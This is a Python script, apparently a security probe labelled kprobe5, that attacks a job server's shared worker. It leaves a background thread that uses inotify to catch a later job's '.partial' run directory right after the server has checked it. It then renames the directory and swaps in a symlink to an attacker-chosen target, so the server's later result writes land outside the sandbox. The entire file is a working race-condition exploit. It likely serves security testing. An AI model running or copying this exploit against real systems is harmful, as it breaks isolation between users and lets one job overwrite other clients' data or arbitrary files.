# A thread left in the warm worker by this job (P5-5) waits for a LATER job's run directory (any kernel's,
# any client's): once the server has checked it (child_io.run_dirs, lstat of every component) and reads
# its result.json (inotify IN_CLOSE_NOWRITE), the thread swaps the `.partial` directory for a link to an
# outside directory. The server's later writes (store.write_result, finish_profile: safefs.open_dir opens
# its ROOT, the work directory itself, following links) then land outside.
import ctypes, os, select, struct, threading, time
target = open(os.path.join(ws, "evil", "TARGET")).read().strip()
libc = ctypes.CDLL(None, use_errno=True)
IN_CLOSE_NOWRITE, IN_OPEN = 0x10, 0x20
root = os.path.join(ws, "out", "profiles")
L = os.path.join(root, "kprobe5", "race_rundir.log")


def say(*a):
    with open(L, "a") as f:
        print(time.strftime("%H:%M:%S"), *a, file=f)


def partials():
    for d, subs, files in os.walk(root):
        if d.endswith(".partial") and ("result.json" in files or "compare.json" in files or "sweep.json" in files):
            yield d


def watcher():
    seen = set(partials())
    fd = libc.inotify_init1(0)
    wds = {}
    say("watching", root, "target", target, "already there", len(seen))
    t_end = time.time() + 600
    while time.time() < t_end:
        for d in partials():
            if d not in seen:
                seen.add(d)
                wd = libc.inotify_add_watch(fd, d.encode(), IN_CLOSE_NOWRITE)
                wds[wd] = d
                say("new run directory", d, "wd", wd)
        r, _, _ = select.select([fd], [], [], 0.002)
        if not r:
            continue
        buf = os.read(fd, 65536)
        i = 0
        while i < len(buf):
            wd, mask, cookie, n = struct.unpack_from("iIII", buf, i)
            name = buf[i + 16 : i + 16 + n].rstrip(b"\0").decode()
            i += 16 + n
            d = wds.get(wd)
            if d and name in ("result.json", "compare.json", "sweep.json") and os.path.isdir(d) and not os.path.islink(d):
                try:
                    os.rename(d, d + ".moved-by-kprobe5")
                    os.symlink(target, d)
                    say("swapped", d, "->", target)
                except OSError as e:
                    say("swap failed", e)


threading.Thread(target=watcher, daemon=True, name="kprobe5-race").start()
print("race thread started", file=log, flush=True)
